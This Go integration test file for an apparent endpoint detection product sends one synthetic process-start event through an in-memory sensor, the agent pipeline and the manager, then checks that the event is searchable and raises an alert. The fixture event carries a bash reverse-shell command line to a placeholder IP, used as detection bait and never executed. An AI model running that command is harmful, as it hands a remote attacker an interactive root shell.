// Package house tests the whole house at once: one event walks from a sensor
// through every room of agent and manager to the console's query.
package house

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/vedette-edr/vedette/internal/agent"
	"github.com/vedette-edr/vedette/internal/agent/config"
	"github.com/vedette-edr/vedette/internal/agent/enrich"
	"github.com/vedette-edr/vedette/internal/agent/ledger"
	"github.com/vedette-edr/vedette/internal/agent/sensor"
	"github.com/vedette-edr/vedette/internal/agent/ship"
	"github.com/vedette-edr/vedette/internal/agent/spool"
	"github.com/vedette-edr/vedette/internal/api"
	"github.com/vedette-edr/vedette/internal/console"
	formats "github.com/vedette-edr/vedette/internal/detect/all"
	"github.com/vedette-edr/vedette/internal/event"
	"github.com/vedette-edr/vedette/internal/manager"
	"github.com/vedette-edr/vedette/internal/wire"
	"github.com/vedette-edr/vedette/rules"
)

// memory is a sensor that emits what a test gives it.
type memory struct{ events chan *event.Event }

func (m memory) Spec() sensor.Spec {
	return sensor.Spec{
		Name: "exec", Doc: "Events of a test.", Kinds: []event.Kind{event.ProcessStart},
		Rungs: []sensor.Rung{{Name: "memory", Needs: "a test"}},
	}
}

func (m memory) Run(ctx context.Context, emit sensor.Emit) error {
	emit(sensor.Took("exec", "memory", "", event.At(time.Now())))
	for {
		select {
		case <-ctx.Done():
			return nil
		case e := <-m.events:
			emit(e)
		}
	}
}

// TestHouse lets one execution walk from the sensor to search, and its finding
// to the alerts, over the real stream and within a second.
func TestHouse(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	m := openManager(ctx, t, newConfig(t), time.Now)
	running := make(chan error, 2)
	managing, stopManager := context.WithCancel(context.WithoutCancel(ctx))
	defer stopManager()
	go func() { running <- errors.Join(m.Run(managing), m.Close()) }()

	exec := memory{make(chan *event.Event)}
	agentCtx, stopAgent := context.WithCancel(ctx)
	defer stopAgent()
	settings, deps, closeDeps := assemble(ctx, t, m, exec, time.Now)
	go func() { running <- errors.Join(agent.Run(agentCtx, settings, deps), closeDeps()) }()

	client := newClient(ctx, t, m)
	defer client.Close()
	begin := time.Now()
	exec.events <- &event.Event{
		Kind: event.ProcessStart, Time: event.At(begin), Provider: "exec", Rung: "memory", Outcome: "success",
		Process: &event.Process{
			EntityID: event.EntityID("house", 4242, 1), PID: 4242, Name: "bash", Executable: "/usr/bin/bash",
			CommandLine: "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", Args: []string{"bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"},
		},
		User: &event.User{ID: "0", Name: "root"},
	}
	var events api.EventList
	var alerts api.AlertList
	for len(events.Events) == 0 || len(alerts.Alerts) == 0 {
		if time.Since(begin) > 20*time.Second {
			t.Fatalf("after 20 s: %d events, %d alerts", len(events.Events), len(alerts.Alerts))
		}
		get(ctx, t, client, "/events/search", api.EventQuery{EventSelect: api.EventSelect{Query: "process.name = 'bash' and event.action = 'process_start'"}}, &events)
		get(ctx, t, client, "/alerts", nil, &alerts)
		select {
		case err := <-running:
			t.Fatalf("a part of the house ended: %v", err)
		case <-time.After(5 * time.Millisecond):
		}
	}
	t.Logf("from the sensor to search and alerts in %s", time.Since(begin).Round(time.Millisecond))
	e := events.Events[0]
	if e.Agent == "" || e.Sequence == 0 || e.Process.PID != 4242 || e.HostName == "" || e.Ingested == 0 {
		t.Errorf("the event lost something on its way: %s", e.AppendJSON(nil))
	}
	if events.Completeness.State != api.Complete || events.Completeness.Hosts != 1 {
		t.Errorf("completeness %+v", events.Completeness)
	}
	if a := alerts.Alerts[0]; a.EventID != e.ID() || a.PID != 4242 || len(a.Techniques) == 0 {
		t.Errorf("alert %+v is not of event %s", a, e.ID())
	}
	stopAgent()
	if err := <-running; err != nil {
		t.Errorf("agent: %v", err)
	}
	stopManager()
	if err := <-running; err != nil {
		t.Errorf("manager: %v", err)
	}
}

func newConfig(t *testing.T) manager.Config {
	c := manager.DefaultConfig()
	c.DataDir = t.TempDir()
	c.People.Listen, c.Agents.Listen = "127.0.0.1:0", "127.0.0.1:0"
	return c
}

func openManager(ctx context.Context, t *testing.T, c manager.Config, now func() time.Time) *manager.Manager {
	t.Helper()
	m, err := manager.Open(ctx, c, manager.Options{
		Console: console.Handler(), Logger: slog.New(slog.DiscardHandler), Now: now, PasswordMemory: 64,
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// assemble joins the real stages of an agent behind a sensor of the test.
func assemble(ctx context.Context, t *testing.T, m *manager.Manager, s sensor.Sensor, now func() time.Time) (agent.Settings, agent.Deps, func() error) {
	t.Helper()
	dir := t.TempDir()
	c := config.Default()
	c.StateDir, c.HostName, c.Alerts.Journal = dir, "house", ""
	token, err := m.EnrolToken(ctx, "default")
	if err != nil {
		t.Fatal(err)
	}
	host := ship.Host{Name: "house", MachineID: "house"}
	enrolled := make(chan error, 1)
	go func() {
		_, err := ship.Enroll(ctx, ship.EnrollOptions{Now: now, Token: token, Dir: filepath.Join(dir, "identity"), Host: host})
		enrolled <- err
	}()
	if err := <-enrolled; err != nil {
		t.Fatal(err)
	}
	sp, err := spool.Open(filepath.Join(dir, "spool"), spool.Options{Linger: 5 * time.Millisecond, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	en, err := enrich.New(enrich.Options{Proc: proc(t)})
	if err != nil {
		t.Fatal(err)
	}
	encoder, err := wire.NewEncoder()
	if err != nil {
		t.Fatal(err)
	}
	d := agent.Deps{
		Sensors: []sensor.Sensor{s}, Enrich: en, Spool: sp, Ledger: ledger.New(), Encode: encoder.Append,
		Formats: formats.Formats(), Shipped: rules.Files, Now: now,
		CPU: func() time.Duration { return 0 }, // the process is the manager and the test too: the agent would give up work for them
		Connect: func(l agent.Link) (agent.Manager, error) {
			return ship.New(ship.Options{
				Dir: filepath.Join(dir, "identity"), Spool: sp, Host: host, Heartbeat: l.Heartbeat, Now: now,
				Backoff: ship.Backoff{First: 10 * time.Millisecond, Most: 50 * time.Millisecond}, Beat: 50 * time.Millisecond,
				Documents: ship.Documents{Policy: l.Policy, Rules: l.Rules, IOCs: l.IOCs, IOCVersion: l.IOCVersion, Task: l.Task},
			})
		},
	}
	return agent.Settings{Config: c}, d, func() error { en.Close(); return sp.Close() }
}

// proc is a procfs without processes: the test reads nothing of its machine.
func proc(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	dir := filepath.Join(root, "sys/kernel/random")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "boot_id"), []byte("house\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return root
}

// client is a person's program at the manager.
func newClient(ctx context.Context, t *testing.T, m *manager.Manager) *api.Client {
	t.Helper()
	p, err := m.Profile(ctx, "test", api.Profile{})
	if err != nil {
		t.Fatal(err)
	}
	c, err := api.NewClient(p)
	if err != nil {
		t.Fatal(err)
	}
	page(t, m, p)
	return c
}

// page checks that the console comes from the same port.
func page(t *testing.T, m *manager.Manager, p api.Profile) {
	t.Helper()
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM([]byte(p.Authority)) {
		t.Fatal("no authority in the profile")
	}
	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}, DisableKeepAlives: true}
	res, err := (&http.Client{Transport: tr, Timeout: 10 * time.Second}).Get(m.URL() + "/")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK || res.Header.Get("Content-Security-Policy") == "" {
		t.Errorf("console: %s, policy %q", res.Status, res.Header.Get("Content-Security-Policy"))
	}
}

func get(ctx context.Context, t *testing.T, c *api.Client, path string, query, into any) {
	t.Helper()
	if err := c.Do(ctx, http.MethodGet, path, query, nil, into); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
}
